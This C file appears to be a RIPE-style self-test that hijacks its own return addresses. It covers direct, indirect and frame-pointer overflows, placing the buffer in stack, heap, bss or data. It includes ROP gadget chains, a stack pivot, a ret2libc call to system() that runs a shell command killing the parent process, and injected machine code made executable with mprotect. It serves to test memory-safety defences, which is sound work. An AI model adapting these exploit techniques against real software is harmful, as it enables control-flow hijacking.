/* SPDX-License-Identifier: MIT */
/*
 * Attacks on return addresses, after RIPE's dimensions: attack HOW WHERE WHAT
 *   HOW    direct: a buffer beside the frame overflows; indirect: it overflows into a pointer, through which the return
 *          address is written; frame: the saved frame pointer is replaced, and the caller returns from a false frame
 *   WHERE  stack heap bss data: where the buffer, the code or the false frame lies
 *   WHAT   function: of the program; libc: of the C library; rop: a chain of gadgets; pivot: a gadget that moves the
 *          stack to a chain; code: injected
 * Natively every one of them prints "taken". Built without canaries.
 */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

struct place {
	char buf[64];
	uint64_t *to;
	uint64_t chain[64]; /* room for frames of what the chain calls, and the chain */
	unsigned char code[64];
} __attribute__((aligned(4096)));

static struct place in_bss, in_data = { .buf = "data" };
static const char *what, *how;
static char message[] = "taken\n";

void gadget_pop_rdi(void);
void gadget_pop_rsi(void);
void gadget_pop_rdx(void);
void gadget_pivot(void);
void gadget_leave(void);
__asm__(".text\ngadget_pop_rdi: pop %rdi; ret\n"
	"gadget_pop_rsi: pop %rsi; ret\n"
	"gadget_pop_rdx: pop %rdx; ret\n"
	"gadget_pivot: pop %rsp; ret\n"
	"gadget_leave: leave; ret\n");

static void __attribute__((used)) taken(void)
{
	if (write(1, message, 6) == 6)
		_exit(0);
}

/* write(1, message, 6), _exit(0) */
static uint64_t *write_chain(uint64_t *c)
{
	*c++ = (uint64_t)gadget_pop_rdi;
	*c++ = 1;
	*c++ = (uint64_t)gadget_pop_rsi;
	*c++ = (uint64_t)message;
	*c++ = (uint64_t)gadget_pop_rdx;
	*c++ = 6;
	*c++ = (uint64_t)write;
	*c++ = (uint64_t)gadget_pop_rdi;
	*c++ = 0;
	*c++ = (uint64_t)_exit;
	return c;
}

static void inject(unsigned char *p)
{
	static const unsigned char jump[] = { 0x48, 0x83, 0xe4, 0xf0, 0x48, 0xb8 }; /* and $-16, %rsp; mov $taken, %rax */
	uint64_t to = (uint64_t)taken;

	memcpy(p, jump, sizeof(jump));
	memcpy(p + sizeof(jump), &to, 8);
	memcpy(p + sizeof(jump) + 8, "\xff\xe0", 2); /* jmp *%rax */
	mprotect((void *)((uintptr_t)p & -4096ul), 8192, PROT_READ | PROT_WRITE | PROT_EXEC);
}

/* what stands at the return address and above it; the number of words */
static size_t payload(struct place *at, uint64_t out[32])
{
	uint64_t *chain = at->chain + 40;

	if (!strcmp(what, "function")) {
		out[0] = (uint64_t)taken;
		return 1;
	}
	if (!strcmp(what, "libc")) {
		out[0] = (uint64_t)gadget_pop_rdi;
		out[1] = (uint64_t)"echo taken; kill -9 $PPID";
		out[2] = (uint64_t)gadget_pop_rdi + 1; /* ret: system() wants its stack aligned */
		out[3] = (uint64_t)system;
		return 4;
	}
	if (!strcmp(what, "code")) {
		inject(at->code);
		out[0] = (uint64_t)at->code;
		return 1;
	}
	if (!strcmp(what, "pivot")) {
		write_chain(chain);
		out[0] = (uint64_t)gadget_pivot;
		out[1] = (uint64_t)chain;
		return 2;
	}
	return (size_t)(write_chain(out) - out);
}

static void __attribute__((noinline)) copy(volatile char *to, const void *from, size_t n)
{
	for (size_t i = 0; i < n; i++)
		to[i] = ((const char *)from)[i];
}

#define FRAMED __attribute__((noinline, noclone, optimize("no-omit-frame-pointer")))

static void FRAMED direct(struct place *at)
{
	struct { char buf[64]; } local;
	char big[1024];
	uint64_t out[32];
	char *ret = (char *)__builtin_frame_address(0) + 8;
	size_t before = (size_t)(ret - local.buf), n = payload(at, out) * 8;

	memcpy(big, local.buf, before);
	memcpy(big + before, out, n);
	copy(local.buf, big, before + n);
}

static void FRAMED indirect(struct place *at)
{
	struct { char buf[64]; uint64_t *to; } overflow;
	uint64_t out[32];
	size_t n = payload(at, out);

	memset(overflow.buf, 'x', sizeof(overflow.buf));
	overflow.to = (uint64_t *)__builtin_frame_address(0) + 1;
	copy(at->buf, &overflow, sizeof(overflow)); /* runs over into at->to */
	copy((char *)at->to, out, 8 * n);
}

static void FRAMED frame(struct place *at)
{
	uint64_t *chain = at->chain + 31, out[32];
	size_t n = payload(at, out);

	memcpy(chain + 1, out, 8 * n);
	*(uint64_t *volatile *)__builtin_frame_address(0) = chain; /* the caller leaves with it */
}

static void FRAMED caller(struct place *at)
{
	volatile char room[32] = "";

	if (!strcmp(how, "direct"))
		direct(at);
	else if (!strcmp(how, "indirect"))
		indirect(at);
	else
		frame(at);
	__asm__ volatile("" : : "r"(room) : "memory");
	__asm__ volatile("leave; ret"); /* as without red zone and tail merging */
}

/* room below and above: what is called needs a stack */
static void FRAMED go(const char *where)
{
	struct place local;
	volatile char above[512] = "";

	memset(&local, 0, sizeof(local));
	if (!strcmp(where, "stack"))
		caller(&local);
	else if (!strcmp(where, "bss"))
		caller(&in_bss);
	else if (!strcmp(where, "data"))
		caller(&in_data);
	else
		caller((struct place *)((char *)aligned_alloc(4096, 16 * 4096) + 4 * 4096));
	__asm__ volatile("" : : "r"(above) : "memory");
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	alarm(10);
	how = argv[1];
	what = argv[3];
	go(argv[2]);
	puts("not taken");
	return 1;
}
